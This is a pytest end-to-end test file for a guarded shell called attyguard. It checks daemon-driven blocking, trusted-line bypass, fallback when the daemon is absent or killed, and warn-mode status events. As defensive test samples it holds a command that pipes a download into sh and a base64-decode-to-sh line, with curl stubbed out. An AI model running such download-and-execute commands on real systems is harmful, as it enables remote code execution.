"""End-to-end: the guarded shell against a real daemon (issue 4, the shell's side).

The real `attyguard` binary in a real tmux, the real `attyguard daemon` on a
real socket in a tmp dir, and `[guard] daemon_socket_path` in the shell's
config: the daemon is asked before the in-process patterns; a daemon Block
refuses without a prompt and locks the shell (Critical PID) unless the line
is trusted; an absent, killed or stopped daemon costs at most the deadline
and the shell reconnects when it is back; warn-mode events reach the `⚠ N`
status bar and Alt+Shift+W.

Every wait polls the screen (or the daemon) until a deadline; a failure shows
the whole screen and the daemon's log. The added delay of a fallback is
printed as a figure (`pytest -s`); the assertion on it is deliberately loose
(the machine is shared), the deadline itself is checked by the client's tests.
"""

from __future__ import annotations

import contextlib
import os
import re
import signal
import statistics
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.daemon_harness import RunningDaemon, remove_tmpdirs, short_tmpdir
from tests.e2e.harness import Tmux, WaitTimeout, run

pytestmark = pytest.mark.e2e

# Tier-1 warns on it (a download piped into a shell, p 0.6); a daemon with
# auto_block and block_threshold 0.5 blocks it. `curl` is a shell function in
# these tests' ~/.bashrc, so nothing touches the network when it does run.
WARNED = "curl -fsS https://example.invalid/i.sh | sh"
BLOCKED = "echo aGVsbG8= | base64 -d | sh"  # a Tier-1 block rule: refused locally too
AUTO_BLOCK = "[accumulator]\nauto_block = true\nblock_threshold = 0.5\n"
SLACK_S = 1.0  # generous bound on a fallback's added delay (a shared, loaded machine)


@dataclass
class Scene:
    """One shell in tmux wired to one daemon; waits show the screen and the daemon log."""

    t: Tmux
    daemon: RunningDaemon
    timeout_ms: int
    rounds: int = 0

    def dump(self) -> str:
        return (f"--- screen (with scrollback) ---\n{self.t.screen(history=True)}\n"
                f"--- daemon log ---\n{self.daemon.log()}")

    def wait(self, pattern: str | Callable[[str], bool], timeout: float = 10.0) -> str:
        try:
            return self.t.wait_for(pattern, timeout)
        except WaitTimeout as exc:
            raise WaitTimeout(f"{exc}\n--- daemon log ---\n{self.daemon.log()}") from None

    def status_bar(self) -> str:
        return self.t.screen().splitlines()[-1]

    def round_trip(self) -> float:
        """Seconds from sending one harmless command to its output and the next prompt."""
        self.rounds += 1
        done = re.compile(rf"^rt-{self.rounds}-ok\n\[~\]\$$", re.MULTILINE)
        start = time.monotonic()
        self.t.send_line(f"echo rt-{self.rounds}-ok")
        deadline = start + 10.0
        while not done.search(self.t.screen()):
            if time.monotonic() > deadline:
                raise WaitTimeout(f"round trip {self.rounds} did not finish\n{self.dump()}")
            time.sleep(0.005)
        return time.monotonic() - start

    def wait_connected(self, timeout: float = 15.0) -> None:
        """Run commands until the status bar says the daemon answered (it backs off ≤ 5 s)."""
        deadline = time.monotonic() + timeout
        while "daemon: connected" not in self.status_bar():
            if time.monotonic() > deadline:
                raise WaitTimeout(f"the shell never reported the daemon connected\n{self.dump()}")
            self.round_trip()

    def shell_pid(self) -> int:
        """attyguard's own PID (bash's parent): the process the daemon sees and marks."""
        self.t.send_line("echo shell-pid=$PPID")
        match = re.search(r"^shell-pid=(\d+)$", self.wait(r"^shell-pid=\d+\n"), re.MULTILINE)
        assert match is not None
        return int(match.group(1))

    def call(self, op: str, **args: Any) -> dict[str, Any]:
        reply = self.daemon.call(op, **args)
        assert reply.get("ok") is True, f"{op}: {reply}\n{self.dump()}"
        return reply

    def requests(self) -> int:
        """The daemon's request counter (this status call included)."""
        return int(self.call("status")["counters"]["requests"])

    def wait_subscribed(self, timeout: float = 15.0) -> None:
        """Until the shell's WarnSubscriber holds a subscription (it backs off ≤ 10 s)."""
        deadline = time.monotonic() + timeout
        while self.call("status")["subscribers"] < 1:
            if time.monotonic() > deadline:
                raise WaitTimeout(f"the shell never subscribed to warn events\n{self.dump()}")
            time.sleep(0.02)

    def level_of(self, pid: int) -> str:
        return str(self.call("threats", pid=pid)["effective"]["level"])


@pytest.fixture
def scene(shell: Callable[..., Tmux], ag_env: dict[str, str], ag_home: Path
          ) -> Iterator[Callable[..., Scene]]:
    daemons: list[RunningDaemon] = []
    with (ag_home / ".bashrc").open("a") as rc:
        rc.write("curl() { echo fake-curl >&2; }\n")

    def make(*, daemon_args: tuple[str, ...] = (), daemon_config: str = "",
             start_daemon: bool = True, timeout_ms: int = 500) -> Scene:
        daemon = RunningDaemon(short_tmpdir(), daemon_args, daemon_config)
        daemons.append(daemon)
        if start_daemon:
            daemon.start()
        config = Path(ag_env["ATTYGUARD_HOME"]) / "config" / "config.toml"
        config.parent.mkdir(parents=True, exist_ok=True)
        config.write_text(f'[guard]\ndaemon_socket_path = "{daemon.socket}"\n'
                          f"daemon_timeout_ms = {timeout_ms}\n")
        return Scene(shell(cols=200), daemon, timeout_ms)

    yield make
    for daemon in daemons:
        if daemon.proc is not None and daemon.proc.poll() is None:
            with contextlib.suppress(OSError):
                daemon.signal(signal.SIGCONT)  # a test that stopped it may have failed
        daemon.stop()
    remove_tmpdirs()


def _added_delay(name: str, before: list[float], after: list[float]) -> float:
    """The worst extra time of a command after the event vs before it; printed as a figure."""
    base = statistics.median(before)
    print(f"FIGURE {name}: round trip before {', '.join(f'{x * 1000:.0f}' for x in before)} ms "
          f"(median {base * 1000:.0f}); after {', '.join(f'{x * 1000:.0f}' for x in after)} ms; "
          f"first after adds {(after[0] - base) * 1000:.0f} ms")
    return max(after) - base


def test_daemon_is_asked_before_the_local_patterns(scene, attyguard_bin, ag_env):
    s = scene()
    s.wait_connected()
    before = s.requests()
    s.t.send_line("echo asked-once")
    s.wait(r"^asked-once\n\[~\]\$$")
    # One classify for the line, plus the status call that reads the counter.
    assert s.requests() - before == 2, s.dump()

    # A daemon-only decision: the local engine allows this line, the daemon
    # refuses it because the shell's process is marked Critical.
    line = "echo harmless-after-mark"
    local = run([attyguard_bin, "check", "--no-daemon", "--no-trust", "--", line], env=ag_env)
    assert local.returncode == 0, local
    pid = s.shell_pid()
    s.call("mark", pid=pid, level="critical", reason="marked by the test")
    s.t.send_line(line)
    screen = s.wait(r"^REFUSED — this process tree is marked Critical.*\n"
                    r"(attyguard: .*\n)?\[~\]\$$")
    assert not re.search(r"^harmless-after-mark$", screen, re.MULTILINE), s.dump()


def test_daemon_block_refuses_without_prompt_and_locks_the_shell(scene):
    s = scene(daemon_config=AUTO_BLOCK)
    s.wait_connected()
    pid = s.shell_pid()
    assert s.level_of(pid) == "none", s.dump()
    s.t.send_line("if true; then")  # bash waits for more: the block must cancel that too
    s.wait(r"^>$")
    s.t.send_line(f"{WARNED}; echo ran-blocked")
    # One REFUSED line, then an empty PS1 prompt: no question, the buffer cleared.
    screen = s.wait(r"^REFUSED — .*auto-block.*\n(attyguard: .*\n)?\[~\]\$$")
    assert "[y]es" not in screen, s.dump()
    assert not re.search(r"^ran-blocked$", screen, re.MULTILINE), s.dump()
    entries = {e["pid"]: e["level"] for e in s.call("threats")["entries"]}
    assert entries.get(pid) == "critical", f"{entries}\n{s.dump()}"
    # The next harmless line from this shell is refused too.
    s.t.send_line("echo next-harmless")
    screen = s.wait(r"^REFUSED — this process tree is marked Critical.*\n"
                    r"(attyguard: .*\n)?\[~\]\$$")
    assert not re.search(r"^next-harmless$", screen, re.MULTILINE), s.dump()
    if os.geteuid() != 0:
        return  # only root may lift a mark
    # An operator lifts the mark; the next line runs in a bash that kept no
    # half-entered `if` from before the block.
    assert s.call("clear", pid=pid)["cleared"] is True, s.dump()
    s.t.send_line("echo after-clear")
    s.wait(r"^after-clear\n\[~\]\$$")


def test_trusted_line_short_circuits_the_daemon_block(scene, attyguard_bin, ag_env):
    trusted = f"{WARNED}; echo trusted-ran"
    added = run([attyguard_bin, "trust", "add", "--", trusted], env=ag_env)
    assert added.returncode == 0, added
    s = scene(daemon_config=AUTO_BLOCK)
    would = s.call("classify", line=trusted)["verdict"]
    assert would["action"] == "block", would
    s.wait_connected()
    pid = s.shell_pid()
    before = s.requests()
    s.t.send_line(trusted)
    s.wait(r"^trusted-ran\n\[~\]\$$")
    assert s.requests() - before == 1, f"the daemon was asked about a trusted line\n{s.dump()}"
    # An untrusted variant is blocked and locks the shell ...
    s.t.send_line(f"{WARNED}; echo untrusted-ran")
    s.wait(r"^REFUSED — .*auto-block.*\n(attyguard: .*\n)?\[~\]\$$")
    assert s.level_of(pid) == "critical", s.dump()
    # ... and the trusted line still runs: trust short-circuits the Critical path too.
    s.t.send_line(trusted)
    s.wait(lambda screen: len(re.findall(r"^trusted-ran\n\[~\]\$", screen, re.MULTILINE)) == 2)
    assert not re.search(r"^untrusted-ran$", s.t.screen(), re.MULTILINE), s.dump()


def test_absent_daemon_at_start_falls_back_then_reconnects(scene):
    s = scene(start_daemon=False, timeout_ms=150)
    s.round_trip()  # the first line also waits for the guard to load
    absent = [s.round_trip() for _ in range(3)]
    s.wait(r"daemon: unavailable: no daemon socket at ")
    s.t.send_line(BLOCKED)  # the in-process patterns still guard
    s.wait(r"^REFUSED — .+\n\[~\]\$$")
    s.daemon.start()
    s.wait_connected()
    assert s.requests() >= 2, s.dump()
    s.wait_subscribed()
    connected = [s.round_trip() for _ in range(3)]
    # Figure only: "before" is with the daemon answering, "after" without it.
    assert _added_delay("absent daemon vs connected", connected, absent) < SLACK_S, s.dump()


def test_daemon_killed_mid_session_falls_back_then_reconnects(scene):
    s = scene(timeout_ms=150)
    s.wait_connected()
    before = [s.round_trip() for _ in range(3)]
    # While the daemon answers, it refuses everything from this shell ...
    s.call("mark", pid=s.shell_pid(), level="critical", reason="marked by the test")
    s.t.send_line("echo refused-by-daemon")
    s.wait(r"^REFUSED — this process tree is marked Critical.*\n(attyguard: .*\n)?\[~\]\$$")
    s.daemon.signal(signal.SIGKILL)
    assert s.daemon.proc is not None
    s.daemon.proc.wait(10)
    # ... once it is dead, the in-process verdict runs the same harmless lines.
    after = [s.round_trip() for _ in range(3)]
    assert _added_delay("kill -9 fallback", before, after) < SLACK_S, s.dump()
    s.wait(r"daemon: unavailable: ")
    s.t.send_line(BLOCKED)  # and the in-process patterns still guard
    s.wait(r"^REFUSED — .+\n\[~\]\$$")
    s.daemon.start()  # same socket path: the stale socket file is replaced
    s.wait_connected()
    assert s.requests() >= 2, s.dump()
    s.wait_subscribed()  # warn events reach this shell again


def test_stopped_daemon_costs_at_most_the_deadline_then_recovers(scene):
    s = scene(timeout_ms=150)
    s.wait_connected()
    before = [s.round_trip() for _ in range(3)]
    s.daemon.signal(signal.SIGSTOP)
    try:
        after = [s.round_trip() for _ in range(3)]
        assert _added_delay("SIGSTOP fallback", before, after) < SLACK_S, s.dump()
        s.wait(r"daemon: unavailable: daemon timed out after 150 ms")
        s.t.send_line(BLOCKED)
        s.wait(r"^REFUSED — .+\n\[~\]\$$")
    finally:
        s.daemon.signal(signal.SIGCONT)
    s.wait_connected()
    # Leaving the shell does not wait for a stopped daemon either.
    s.daemon.signal(signal.SIGSTOP)
    try:
        s.t.send_keys("C-d")
        assert s.t.wait_exit(5) == 0, s.dump()
    finally:
        s.daemon.signal(signal.SIGCONT)


def test_warn_mode_event_reaches_status_bar_and_alt_shift_w(scene):
    s = scene(daemon_args=("--mode", "warn"), daemon_config=AUTO_BLOCK)
    s.wait_connected()
    s.wait_subscribed()
    pid = s.shell_pid()
    s.t.send_line(f"{WARNED}; echo warn-mode-ran")
    # The daemon would block it; in warn mode the shell asks instead.
    s.wait(r"\[y\]es / \[t\]rust / cancel\?")
    s.t.send_keys("y")
    s.wait(r"^warn-mode-ran\n\[~\]\$$")
    # The shell's own "ran:" entry and the daemon's event.
    s.wait(r"⚠ 2 │ daemon: connected")
    assert s.level_of(pid) != "critical", s.dump()
    s.t.send_keys("M-W")
    s.wait(r"attyguard: 2 warning\(s\):\n(  ⚠ .*\n){2}")
    assert re.search(rf"^  ⚠ pid {pid} \(uid \d+\) would be blocked: ", s.t.screen(),
                     re.MULTILINE), s.dump()
    s.wait(r"^ attyguard │ daemon: connected")  # the counter is cleared
